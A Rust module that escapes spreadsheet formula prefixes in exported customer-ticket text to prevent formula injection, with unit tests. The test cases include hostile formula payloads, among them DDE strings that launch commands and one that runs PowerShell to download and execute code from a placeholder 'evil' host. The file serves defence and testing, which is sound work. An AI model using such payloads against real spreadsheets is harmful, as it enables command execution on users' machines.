//! Escapes text that a spreadsheet would run as a formula, and reverses it on import.
//!
//! Customers write our tickets: opening an export in a spreadsheet would run their `=HYPERLINK(…)` or `=cmd|…`. The
//! start of a cell makes it a formula; spreadsheets ignore blanks before it, so this check does too.

use std::borrow::Cow;

/// Formula prefixes, half and full width.
const FORMULA_PREFIXES: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/// Quotes that may precede a formula prefix.
const IGNORED_QUOTES: [char; 6] = ['"', '\'', '“', '”', '‘', '’'];
/// Characters after which a spreadsheet interprets the rest of the cell.
const CELL_BREAKS: [char; 3] = ['\t', '\r', '\n'];
/// The prefix that marks a cell as text.
const APOSTROPHE: char = '\'';

/// Escapes a formula with an apostrophe. Numbers and phone numbers are left alone.
pub fn escape_formula(text: &str) -> Cow<'_, str> {
    if is_formula(text) { Cow::Owned(format!("{APOSTROPHE}{text}")) } else { Cow::Borrowed(text) }
}

/// Removes the apostrophe of an escaped cell.
pub fn unescape_formula(cell: &str) -> &str {
    match cell.strip_prefix(APOSTROPHE) {
        // Other programs escape numbers too.
        Some(rest) if is_formula(rest) || rest.starts_with(FORMULA_PREFIXES) => rest,
        _ => cell,
    }
}

fn is_formula(text: &str) -> bool {
    let inside = text.trim_start_matches(|c: char| c.is_whitespace() || IGNORED_QUOTES.contains(&c));
    text.starts_with(CELL_BREAKS) || inside.starts_with(FORMULA_PREFIXES) && !is_number(text.trim())
}

/// `-5`, `+3.2`, `-1e5`, `+84 912 345 678`, `+1 (212) 555-0100`.
fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    // At most one exponent.
    let (digits, exponent) = digits.split_once(['e', 'E']).unwrap_or((digits, "0"));
    let exponent = exponent.strip_prefix(['+', '-']).unwrap_or(exponent);
    let telephone = |c: char| c.is_ascii_digit() || matches!(c, ' ' | '(' | ')' | '.' | '-');
    digits.starts_with(|c: char| c.is_ascii_digit() || c == '(')
        && digits.contains(|c: char| c.is_ascii_digit())
        && digits.chars().all(telephone)
        && !exponent.is_empty()
        && exponent.chars().all(|c| c.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_guarded_and_numbers_are_not() {
        for formula in [
            "=1+1",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=cmd|'/C powershell IEX(wget evil/x)'!A0",
            "=HYPERLINK(\"http://evil\",\"x\")",
            "  =1+1",
            "\u{a0}=1+1",
            "\" =1+1",
            "“=1+1",
            "'=1+1",
            "\t=1+1",
            "\r=1+1",
            "\nx",
            "\tx",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "-",
            "--version",
            "+++ATH0",
            "-1/2",
            "-$1.00",
            "+e5",
            "-5e",
            "-1e5e5",
            "'-5",
        ] {
            let cell = escape_formula(formula);
            assert_eq!(cell, format!("'{formula}"), "{formula:?}");
            assert_eq!(unescape_formula(&cell), formula);
        }
        for plain in [
            "",
            "-5",
            "+3.2",
            "-0.0",
            "1e5",
            "-1E+02",
            "+84 912 345 678",
            "+84912345678",
            "+1 (212) 555-0100",
            "+(84) 9",
            "Hoa",
            "'quoted'",
            "a=b",
            "2026-03-02T09:00:00+07:00",
            " -5 ",
            "‘so’",
        ] {
            assert_eq!(escape_formula(plain), plain);
            assert_eq!(unescape_formula(plain), plain);
        }
        assert_eq!(unescape_formula("'+84 912"), "+84 912", "as other programs guard it");
    }
}
